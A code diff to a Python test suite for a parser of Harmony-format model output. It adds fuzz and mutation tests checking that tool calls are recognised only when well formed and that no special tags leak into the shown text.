+def test_a_function_name_without_the_call_tag_is_no_call(
+    vocabulary: Vocabulary, text: str, expected: Read
+) -> None:
+    assert read(vocabulary, text) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("⟨C⟩commentary to=functions.bash ⟨K⟩json⟨M⟩First `rm -rf build`, but…⟨L⟩", "unfit"),
+        ("⟨C⟩commentary ⟨K⟩functions.bash⟨M⟩First remove it.⟨L⟩", "unfit"),
+        ("⟨C⟩functions.nothing⟨M⟩{}⟨L⟩", "undeclared"),
+        ("⟨C⟩analysis⟨M⟩I call it now.⟨L⟩", "unnamed"),
+        ('⟨C⟩analysis to=assistant⟨M⟩{"town": "Oslo"}⟨L⟩', "unnamed"),
+        ("⟨C⟩commentary⟨M⟩I look.⟨L⟩", None),
+    ],
+)
+def test_a_call_that_fits_nothing_can_be_corrected(
+    vocabulary: Vocabulary, text: str, problem: str | None
+) -> None:
+    parser = HarmonyParser(vocabulary, TOOLS)
+    events = [e for token in vocabulary.encode_tagged(tagged(text)) for e in parser.feed(token)]
+    assert not any(isinstance(event, ToolCall) for event in events)
+    assert (parser.bad_call.problem if parser.bad_call else None) == problem
+    assert events + parser.finish()
+
+
+ANSWERS: list[tuple[str, str, list[tuple[str, Any]]]] = [
+    ("⟨C⟩analysis⟨M⟩Perhaps alpha to=functions.bash beta.⟨E⟩"
+     "⟨S⟩assistant⟨C⟩commentary⟨M⟩Gamma I look.⟨E⟩⟨S⟩assistant⟨C⟩commentary to=functions.bash "
+     '⟨K⟩json⟨M⟩{"command": "delta --to=epsilon"}⟨L⟩',
+     "alpha beta Gamma delta epsilon", [("bash", {"command": "delta --to=epsilon"})]),
+    ("⟨C⟩analysis⟨M⟩Alpha beta.⟨E⟩"
+     "⟨S⟩assistant⟨C⟩final⟨M⟩Gamma: run `x to=functions.bash rm`, delta.⟨R⟩",
+     "Alpha beta Gamma delta", []),
+    ('⟨S⟩assistant to=functions.grep⟨C⟩commentary json⟨M⟩{"pattern": "alpha", "path": "beta"}⟨L⟩',
+     "alpha beta", [("grep", {"pattern": "alpha", "path": "beta"})]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("number", range(3))
+def test_one_wrong_tag_loses_no_word_and_makes_no_call(vocabulary: Vocabulary, number: int) -> None:
+    """Each tag of an answer is left out, or replaced by any other, and so are some pairs."""
+    answer, words, right = ANSWERS[number]
+    parts = answer.replace("⟨", "\n⟨").replace("⟩", "⟩\n").split("\n")
+    places = [i for i, part in enumerate(parts) if part.startswith("⟨")]
+    others = ["", *(f"⟨{letter}⟩" for letter in SHORT)]
+    changes = [[(place, other)] for place in places for other in others]
+    rng = random.Random(number)
+    for _ in range(300):
+        changes.append([(rng.choice(places), rng.choice(others)) for _ in range(2)])
+    for change in changes:
+        mutated = list(parts)
+        for place, other in change:
+            mutated[place] = other
+        reasoning, content, calls = read(vocabulary, "".join(mutated))
+        shown = reasoning + content + str(calls)
+        assert all(word in shown for word in words.split()), ("".join(mutated), shown)
+        assert all(call in right for call in calls), ("".join(mutated), calls)
+        assert len(calls) <= 1
+
+
+GOOD = [
+    "⟨C⟩analysis⟨M⟩Think 漢.⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi 👋🏽!⟨R⟩",
+    "⟨C⟩analysis⟨M⟩T⟨E⟩⟨S⟩assistant⟨C⟩commentary⟨M⟩Wait.⟨E⟩"
+    '⟨S⟩assistant⟨C⟩commentary to=functions.f ⟨K⟩json⟨M⟩{"a": [1, {"b": "x y"}]}⟨L⟩',
+    " to=functions.g⟨C⟩commentary json⟨M⟩{'a': True,}⟨L⟩⟨S⟩functions.g to=assistant⟨C⟩commentary"
+    "⟨M⟩ok⟨E⟩",
+]
+WORDS = [*(f"⟨{letter}⟩" for letter in SHORT), "assistant", " to=functions.f", " to=python"]
+WORDS += ["analysis", "final", "commentary", " json", '{"a"', ": 1}", "[", "}", '"', "\\", "é"]
+WORDS += ["\n", " ", "user"]
+
+
+@settings(max_examples=200)
+@given(data=st.data())
+def test_mutated_answers_never_raise_or_leak(vocabulary: Vocabulary, data: st.DataObject) -> None:
+    """Answers with pieces cut, repeated, put in and swapped, which end after any token."""
+    draw = data.draw
+    tokens = vocabulary.encode_tagged(tagged(draw(st.sampled_from(["", *GOOD]))))
+    for _ in range(draw(st.integers(0, 4))):
+        at, n = draw(st.integers(0, len(tokens))), draw(st.integers(0, 5))
+        match draw(st.sampled_from(["cut", "repeat", "insert", "random"])):
+            case "cut":
+                del tokens[at : at + n]
+            case "repeat":
+                tokens[at:at] = tokens[at : at + n]
+            case "insert":
+                words = draw(st.lists(st.sampled_from(WORDS), max_size=25 if not tokens else n))
+                tokens[at:at] = vocabulary.encode_tagged(tagged("".join(words)))
+            case _:
+                tokens[at:at] = draw(st.lists(st.integers(0, 201_087), max_size=n))
+    for end in range(len(tokens) + 1):
+        reasoning, content, calls = join(HarmonyParser(vocabulary, ANY), tokens[:end])
+        for call in calls:
+            assert call.name in ("f", "g")
+            msgspec.json.encode(call)
+        shown = reasoning + content + "".join(f"{c.name}{c.arguments}" for c in calls)
+        assert not any(tag in shown for tag in SHORT.values()), tokens[:end]
+        for mark in (0, 1):  # bytes that the parser uses itself
+            said = [vocabulary.token_bytes[t] for t in tokens[:end] if t < FIRST_SPECIAL]
+            assert shown.count(chr(mark)) <= b"".join(said).count(mark)
 
 
 def test_characters_split_over_tokens(vocabulary: Vocabulary) -> None:
@@ -268,77 +484,7 @@ def test_characters_split_over_tokens(vocabulary: Vocabulary) -> None:
     assert pieces == list(text)
 
 
-def test_user_text_is_not_special(vocabulary: Vocabulary) -> None:
-    tokens = vocabulary.encoding.encode("a<|end|>b", disallowed_special=())
-    assert join(HarmonyParser(vocabulary, opens_final=True), tokens)[1] == "a<|end|>b"
-
-
-GOOD = [
-    "<|channel|>analysis<|message|>Think 漢.<|end|><|start|>assistant<|channel|>final<|message|>"
-    "Hi 👋🏽!<|return|>",
-    "<|channel|>analysis<|message|>T<|end|><|start|>assistant<|channel|>commentary<|message|>Wait.<|end|>"
-    '<|start|>assistant<|channel|>commentary to=functions.f <|constrain|>json<|message|>{"a": [1, '
-    '{"b": "x y"}]}<|call|>',
-    " to=functions.g<|channel|>commentary json<|message|>{'a': True,}<|call|><|start|>functions.g"
-    " to=assistant<|channel|>commentary<|message|>ok<|end|>",
-]
-WORDS = [*TAGS, "<|return|>", "assistant", " to=functions.f", " to=python", "analysis", "final"]
-WORDS += ["commentary", " json", '{"a"', ": 1}", "[", "}", '"', "\\", "é", "\n", " ", "user"]
-
-
-@settings(max_examples=1000, deadline=None)
-@given(data=st.data())
-def test_mutated_answers_never_raise_or_leak(vocabulary: Vocabulary, data: st.DataObject) -> None:
-    """Well-formed answers with pieces cut, repeated, put in and swapped; then cut anywhere."""
-    tokens = _tokens(vocabulary, data.draw(st.sampled_from(GOOD)))
-    for _ in range(data.draw(st.integers(0, 4))):
-        at = data.draw(st.integers(0, len(tokens)))
-        n = data.draw(st.integers(0, 5))
-        match data.draw(st.sampled_from(["cut", "repeat", "insert", "random"])):
-            case "cut":
-                del tokens[at : at + n]
-            case "repeat":
-                tokens[at:at] = tokens[at : at + n]
-            case "insert":
-                words = data.draw(st.lists(st.sampled_from(WORDS), max_size=n))
-                tokens[at:at] = _tokens(vocabulary, "".join(words))
-            case _:
-                tokens[at:at] = data.draw(st.lists(st.integers(0, 201_087), max_size=n))
-    _check_every_cut(vocabulary, tokens)
-
-
-@settings(max_examples=1000, deadline=None)
-@given(words=st.lists(st.sampled_from(WORDS), max_size=25))
-def test_random_words_never_raise_or_leak(vocabulary: Vocabulary, words: list[str]) -> None:
-    _check_every_cut(vocabulary, _tokens(vocabulary, "".join(words)))
-
-
-def _tokens(vocabulary: Vocabulary, text: str) -> list[int]:
-    tokens: list[int] = vocabulary.encoding.encode(text, allowed_special="all")
-    return tokens
-
-
-def _check_every_cut(vocabulary: Vocabulary, tokens: list[int]) -> None:
-    """Ends the answer after every token: nothing raises, no tag shows, and calls can be sent."""
-    for n in range(len(tokens) + 1):
-        reasoning, content, calls = join(HarmonyParser(vocabulary, TOOLS), tokens[:n])
-        for call in calls:
-            assert call.name in ("f", "g")
-            msgspec.json.encode(call)
-        shown = reasoning + content + "".join(f"{c.name}{c.arguments}" for c in calls)
-        assert not any(tag in shown for tag in ALL_TAGS), tokens[:n]
-        assert "\0" not in shown.replace("\0", "", _n_bytes(vocabulary, tokens[:n], 0))
-        assert "\1" not in shown.replace("\1", "", _n_bytes(vocabulary, tokens[:n], 1))
-
-
-def _n_bytes(vocabulary: Vocabulary, tokens: list[int], byte: int) -> int:
-    """How often a byte that the parser uses as a mark comes from the model itself."""
-    return sum(vocabulary.token_bytes[t].count(byte) for t in tokens if t < FIRST_SPECIAL)
-
-
 def test_raw_spells_the_tags(vocabulary: Vocabulary) -> None:
     text = "<|channel|>final<|message|>é<|end|>"
-    parser = RawParser(vocabulary)
-    tokens = vocabulary.encoding.encode(text + "<|return|>", allowed_special="all")
-    events = [e for t in tokens for e in parser.feed(t)] + parser.finish()
-    assert "".join(e.text for e in events if isinstance(e, ContentDelta)) == text
+    tokens = vocabulary.encode_tagged(text + "<|return|>")
+    assert join(RawParser(vocabulary), tokens)[1] == text  # type: ignore[arg-type]
